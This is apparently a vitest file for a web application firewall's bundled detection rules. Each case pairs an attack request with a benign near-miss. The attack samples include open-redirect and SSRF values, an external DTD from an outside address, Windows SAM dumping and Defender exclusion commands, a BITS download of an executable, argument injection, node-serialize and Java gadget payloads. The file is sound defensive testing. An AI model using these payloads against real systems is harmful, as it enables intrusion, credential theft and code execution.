/**
 * Bundled rules of rev 2026-12-07p: mechanisms blind attack set 5 (380 requests across issue 14's
 * families, written before it was measured) and sets 1-4 (read) showed passing the full pipeline: a
 * control character or a missing slash hiding a redirect's host, service-discovery names as SSRF
 * targets, an external DTD by URL, Windows credential dumps and defence switch-offs, an LDAP filter
 * break-out in a body, prototype pollution written as an assignment, letterless PHP, SMTP commands after
 * a line break, node-serialize's marker percent-encoded, argv option injection in JSON, gadget-chain
 * classes in a raw serialization stream, a PHPSESSID shorter than PHP issues. Each fires on its attack
 * and stays quiet on the benign text closest to it.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { buildInspection as inspectRaw } from '../../src/inspect/build-inspection.js';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import { bundledGate, BROWSER, form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();
/** A raw Java serialization body, its bytes as sent (latin1: 0xAC 0xED 0x00 0x05 ...), through the real inspector. */
function serializedHits(gate: CompiledSignatureGate, stream: string): number[] {
  const inspection = inspectRaw({
    method: 'POST',
    url: '/invoker/JMXInvokerServlet',
    httpVersion: '1.1',
    rawHeaders: [...BROWSER, ['Content-Type', 'application/x-java-serialized-object']].flat(),
    body: Buffer.from(stream, 'latin1'),
    bodyTruncated: false,
    source: { ip: '203.0.113.9', port: 40000, peerIp: '203.0.113.9' },
  });
  return gate.evaluate(inspection).hits.filter((h) => h.effect === 'block').map((h) => h.sid);
}
const STREAM = '\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap\u0005\u0007\u00da\u00c1\u00c3\u0016`\u00d1\u0003\u0000\u0002F\u0000\nloadFactorxp?@\u0000\u0000sr\u0000';

const CASES: RuleCase[] = [
  [9000594, 'block', 'a tab before //host in a redirect value', q('next=%09//evil.example.net/'), q('snippet=%09//%20see%20README.md')],
  [9000594, 'block', 'a line break before \\\\host in a form value', form('redirect=%0a%5c%5cevil.example.net'), form('redirect=%2Faccount%2Fsettings')],
  [9000595, 'block', 'https: and a host with no slash as a query value', q('p=https:evil.example'), q('p=https://shop.example.test/help')],
  [9000595, 'block', 'http: and a host with no slash as a form value', form('url=http:evil.example.net/x'), form('note=see+https:+the+scheme')],
  [9000596, 'block', 'a Consul service name as a webhook URL', json('{"url":"http://consul.service.consul:8500/v1/kv/?recurse"}'), json('{"url":"https://www.consul.io/docs/services"}')],
  [9000596, 'block', 'Vault on its port as an image URL', q('url=http%3A%2F%2Fvault%3A8200%2Fv1%2Fsecret%2Fdata'), q('url=https%3A%2F%2Fvault.example.com%2Fv1')],
  [9000690, 'block', 'an external DTD fetched from an address', xml('<?xml version="1.0"?><!DOCTYPE o SYSTEM "http://203.0.113.7/evil.dtd"><order/>'), xml('<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>')],
  [9000690, 'block', 'an external DTD over ftp', xml('<!DOCTYPE r SYSTEM "ftp://203.0.113.7/p.dtd"><r/>'), xml('<?xml version="1.0"?><!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>')],
  [9001690, 'block', 'reg query of the SAM hive after a separator', form('arg=x+%26+reg+query+HKLM%5CSAM%5CSAM'), form('q=reg+query+HKLM%5CSoftware%5CMicrosoft%5CWindows')],
  [9001690, 'block', 'a Defender exclusion of a whole drive', q('p=Add-MpPreference%20-ExclusionPath%20C%3A%5C'), q('q=Get-MpPreference%20output%20explained')],
  [9001690, 'block', 'certutil decoding a dropped file', q('p=%26%20certutil.exe%20-decode%20a.b64%20a.exe'), q('q=certutil%20-hashfile%20setup.exe%20SHA256')],
  [9001690, 'block', 'BITS fetching from a URL', form('cmd=Start-BitsTransfer+-Source+http%3A%2F%2F203.0.113.7%2Fx.exe+-Destination+C%3A%5CUsers%5CPublic%5Cx.exe'), form('cmd=Start-BitsTransfer+-Source+C%3A%5Cbuild%5Cout.zip+-Destination+D%3A%5Cbackup')],
  [9001390, 'block', 'a wildcard closing an LDAP filter, then memberOf', json('{"filter":"x*)(memberOf=cn=admins,ou=groups,dc=example,dc=test"}'), json('{"regex":"(.*)(id=[0-9]+)","flags":"g"}')],
  [9001390, 'block', 'the same in a form value', form('user=admin*)(uid=*&pass=x'), form('q=stars+*)+(rating%3D5)')],
  [9001391, 'block', 'a __proto__ assignment as a query value', q('p=__proto__.isAdmin%3Dtrue'), q('q=what+is+__proto__.isPrototypeOf')],
  [9001391, 'block', 'constructor.prototype assigned in a JSON value', json('{"path":"constructor.prototype.role=admin"}'), json('{"doc":"constructor.prototype is shared by instances"}')],
  [9001392, 'block', 'letterless PHP building a string of itself', form('code=%24_%3D%5B%5D%3B%24_%3D%40%22%24_%22%3B%24__%3D%24_%3B'), form('code=foreach+(%24list+as+%24_)+print+%24_%3B')],
  [9001290, 'block', 'a double-encoded line break then RCPT TO', form('from=a%40b.c%250ARCPT+TO%3A%3Cx%40evil.example.net%3E'), form('message=Our+relay+rejects+RCPT+TO%3A+for+unknown+users')],
  [9001090, 'block', 'node-serialize\'s marker percent-encoded in a form value', form('p=%7B%22rce%22%3A%22_%24%24ND_FUNC%24%24_function()%7B%7D()%22%7D'), form('q=node-serialize+ND_FUNC+marker')],
  [9000313, 'block', 'tar --checkpoint-action in a JSON argv', json('{"files":["a.txt","b.txt","--checkpoint-action=exec=sh shell.sh"]}'), json('{"args":["--checkpoint=1000","--totals"]}')],
  [9000313, 'block', 'git --exec= running a backtick substitution', q('ref=ax--exec=%60id%60--remote=origin'), q('q=git+rebase+--exec%3D%22make+test%22')],
  [9001289, 'block', 'an 18-character PHPSESSID as a query parameter', q('PHPSESSID=attackerchosen0001'), q('PHPSESSID=9f3c2a1b7e6d5c4a3b2f1e0d9c')],
];

describe('bundled rules from blind attack set 5 and sets 1-4 (rev 2026-12-07p)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries([...CASES.map(([sid]) => sid), 9001021], rules);

  describe('9001021 rev 2: a raw Java serialization body naming a Commons Collections chain link', () => {
    let gate: CompiledSignatureGate;
    beforeAll(async () => {
      gate = await bundledGate();
    });
    it('fires on TiedMapEntry (the JMXInvokerServlet gadget body)', () => {
      expect(serializedHits(gate, `${STREAM}:org.apache.commons.collections.keyvalue.TiedMapEntry`)).toContain(9001021);
    });
    it('is quiet on a stream of the application\'s own classes', () => {
      expect(serializedHits(gate, `${STREAM}\u0016com.example.dto.Report`)).not.toContain(9001021);
    });
  });
});
